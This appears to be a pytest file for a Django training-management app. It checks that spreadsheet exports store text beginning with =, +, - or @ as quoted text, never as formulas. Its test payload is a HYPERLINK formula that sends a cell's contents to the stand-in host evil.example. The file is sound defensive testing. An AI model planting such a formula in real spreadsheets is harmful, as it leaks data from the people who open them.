"""No export writes a formula from text a person typed: every workbook comes from
``core.exports.safe_workbook``, which stores text starting with = + - @ as quoted text (shown
as typed, never evaluated), and each export is checked with hostile text in its cells."""

import io
import re
from datetime import datetime
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from django.utils import timezone

from ganxun.core.exports import safe_workbook

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
ACTOR = SimpleNamespace(username="tester", display_name="测试员", pk=None)


def text_cells(content: bytes):
    """Every cell of every sheet, as (sheet, coordinate, value, data type, quote prefix)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell.coordinate, cell.value, cell.data_type, cell.quotePrefix


def assert_safe(content: bytes, *, expect: str = EVIL) -> None:
    cells = list(text_cells(content))
    formulas = [c for c in cells if c[3] == "f"]
    assert formulas == [], formulas
    hostile = [c for c in cells if isinstance(c[2], str) and c[2][:1] and c[2][0] in "=+-@"]
    assert hostile, "the hostile text did not reach the workbook"
    assert all(c[4] for c in hostile), [c for c in hostile if not c[4]]
    assert any(expect in c[2] for c in hostile)  # kept as typed, not mangled


@pytest.mark.parametrize("options", [{}, {"constant_memory": True}])
def test_the_writer_quotes_formula_like_text_whatever_the_call(options):
    buffer = io.BytesIO()
    book = safe_workbook(buffer, in_memory=True, **options)
    bold = book.add_format({"bold": True})
    sheet = book.add_worksheet("s")
    sheet.write(0, 0, EVIL)
    sheet.write_string(0, 1, "+86 138", bold)
    sheet.write_row(1, 0, ["-1+1", "@SUM(A1)", "普通文字", 3])
    sheet.write_column(2, 0, ["=1+1", "\t=1"])
    book.close()
    cells = {c[1]: c for c in text_cells(buffer.getvalue())}
    assert cells["A1"][2] == EVIL and cells["A1"][3] == "s" and cells["A1"][4]
    assert cells["B1"][4] and cells["A2"][4] and cells["B2"][4] and cells["A3"][4]
    assert not cells["C2"][4] and cells["D2"][2] == 3
    assert openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["s"]["B1"].font.b


def test_every_workbook_is_made_by_the_one_writer():
    pattern = re.compile(r"xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|\bWorkbook\(\)")
    offenders = [
        str(p.relative_to(ROOT))
        for p in (ROOT / "ganxun").rglob("*.py")
        if pattern.search(p.read_text(encoding="utf-8")) and p.name != "exports.py"
    ] + [
        str(p.relative_to(ROOT))
        for p in (ROOT / "ganxun").rglob("exports.py")
        if p.parent.name != "core" and pattern.search(p.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_evaluation_export_keeps_a_trainees_suggestion_as_text():
    from ganxun.evaluations.exports import program_xlsx

    results = {
        "reaction": {"responses": 1, "expected": 2, "rate": 0.5, "mean": 4.5},
        "by_question": [{"label": "总体", "mean": 4.5, "n": 1, "distribution": [0, 0, 0, 1, 0]}],
        "lecturers": [{"name": "-王老师", "mean": 4.5, "responses": 1}],
        "courses": [{"name": "@课程", "mean": 4.5, "responses": 1}],
        "trend": [],
        "suggestions": [EVIL],
    }
    program = SimpleNamespace(full_name="第2期培训班")
    assert_safe(program_xlsx(program, results, [], actor=ACTOR))


@pytest.mark.django_db
def test_audit_export_quotes_what_users_typed(admin):
    from ganxun.core.audit import audit_record
    from ganxun.core.models import AuditEntry
    from ganxun.core.retention import audit_xlsx

    audit_record(actor=admin, action="update", object_type="x", object_id="1", object_repr=EVIL)
    content, rows = audit_xlsx(admin, AuditEntry.objects.all(), what="审计日志")
    assert rows == 1
    assert_safe(content)


def test_needs_exports_quote_statements_and_names():
    from ganxun.needs import exports

    rows = [
        {
            "name": EVIL,
            "unit": "东湖镇",
            "rank": "科员",
            "phone": "+86",
            "status": "未提交",
            "link": "http://x/s/abc/",
        }
    ]
    assert_safe(exports.non_respondents_xlsx("调研", rows, actor=ACTOR))
    need = SimpleNamespace(
        position=1,
        label=EVIL,
        respondent_count=3,
        share=0.5,
        statement_count=4,
        examples=[EVIL],
        course_titles=[],
    )
    assert_safe(exports.common_needs_xlsx("调研", [need], actor=ACTOR))


def test_stats_and_budget_tables_quote_text():
    from ganxun.core.tables_xlsx import Table, tables_xlsx

    table = Table("单位", ["单位", "人次"], [[EVIL, 3], ["-", 0]])
    assert_safe(tables_xlsx("统计", [table], actor=ACTOR))


@pytest.mark.django_db
def test_roster_export_quotes_a_formula_like_note(city):
    from ganxun.orgs.exports import write_roster_xlsx
    from ganxun.orgs.models import Cadre
    from tests.factories import CadreFactory, make_user

    CadreFactory(unit=city.town_a1, position=EVIL, note="@备注")
    admin = make_user(city.city, "admin", username="exporter")
    assert_safe(write_roster_xlsx(admin, Cadre.objects.visible_to(admin)))


@pytest.mark.django_db
def test_credits_export_quotes_names_and_positions(city):
    from ganxun.credits.exports import write_compliance
    from ganxun.credits.selectors import compliance_report
    from tests.factories import CadreFactory, make_user

    CadreFactory(unit=city.town_a1, name="王五", position=EVIL)
    admin = make_user(city.city, "admin", username="exporter2")
    report = compliance_report(city.city, timezone.now().year, keep="all")
    assert_safe(write_compliance(report, only_short=False, actor=admin))


def test_catalog_export_quotes_a_course_title(monkeypatch):
    from ganxun.catalog.importing import exports

    monkeypatch.setattr(exports, "course_row", lambda course: [EVIL, "专题讲座"])
    assert_safe(exports.write_xlsx(ACTOR, "courses", [object()]))


def test_checkin_absence_list_quotes_names():
    from ganxun.checkin.exports import write_absences_xlsx

    session = SimpleNamespace(
        title="开班式", starts_at=timezone.make_aware(datetime(2026, 12, 1, 9))
    )
    cadre = SimpleNamespace(name=EVIL, position="科员", phone="+8613800000000")
    groups = [("东湖镇", [SimpleNamespace(cadre=cadre)])]
    assert_safe(write_absences_xlsx(ACTOR, session, groups))
